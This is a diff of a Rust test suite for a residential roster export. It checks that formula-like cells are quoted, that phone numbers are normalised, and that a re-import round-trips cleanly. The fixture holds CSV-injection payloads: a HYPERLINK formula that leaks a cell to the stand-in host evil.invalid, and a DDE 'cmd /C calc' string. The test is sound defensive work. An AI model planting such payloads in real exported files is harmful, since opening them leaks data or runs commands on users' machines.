@@ -172,7 +172,7 @@ async fn a_rounds_results_list_every_door_and_knock() {
 }
 
 /// A roster whose cells would run as formulas in a spreadsheet, next to a phone number with a
-/// country code and a basement floor, which must come out as they are.
+/// country code (which the importer normalises) and a basement floor, which must come out as it is.
 const HOSTILE_ROSTER: &str = "\u{feff}小区,楼号,单元,楼层,房号,户主,联系电话,户内人数,60岁以上人数,6岁以下儿童,重点人群,管控状态,有无电梯,备注
 香樟苑,1号楼,1单元,-1,B01,@SUM(A1:A9),+86 139 1234 5678,2,1,0,独居老人,正常,无,\"=HYPERLINK(\"\"http://evil.invalid/?leak=\"\"&F2,\"\"click\"\")\"
 香樟苑,1号楼,1单元,2,201,任强,19911257346,2,0,0,透析,正常,无,-2+3+cmd|' /C calc'!A0
@@ -213,7 +213,9 @@ async fn csv_exports_quote_formulas_and_keep_phone_numbers() {
         let basement = csv_row(csv, "B01");
         assert_eq!(basement[3], "-1", "{which}: a negative floor stays a number");
         assert_eq!(basement[5], "'@SUM(A1:A9)", "{which}");
-        assert_eq!(basement[6], "+86 139 1234 5678", "{which}: a phone number stays as typed");
+        // The importer normalises phone numbers (+86, spaces), so the export holds digits a
+        // search finds and a spreadsheet never reads as a formula.
+        assert_eq!(basement[6], "13912345678", "{which}: the phone number as the importer normalised it");
         assert_eq!(basement[13], "'=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")", "{which}");
         let other = csv_row(csv, "201");
         assert_eq!(other[13], "'-2+3+cmd|' /C calc'!A0", "{which}");
@@ -226,6 +228,25 @@ async fn csv_exports_quote_formulas_and_keep_phone_numbers() {
         }
     }
     assert_eq!(api, dashboard, "the dashboard's roster CSV is the API's");
+
+    // Re-imported, the quoted export gives back the cells exactly as they were typed.
+    let again = dash.relay.create_compound("公式苑 再导入").await;
+    dash.relay.import_roster(again, std::str::from_utf8(&api).unwrap()).await;
+    let api_again = dash
+        .http
+        .get(format!("{}/v1/compounds/{again}/roster.csv", dash.url()))
+        .bearer_auth(&dash.relay.admin_token)
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap()
+        .to_vec();
+    for flat in ["B01", "201"] {
+        let (first, second) = (csv_row(&api, flat), csv_row(&api_again, flat));
+        assert_eq!(first[5..], second[5..], "flat {flat}: the re-import changed a quoted cell");
+    }
 
     // The workbook holds typed text, which no spreadsheet runs: the cells are as they were entered.
     let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
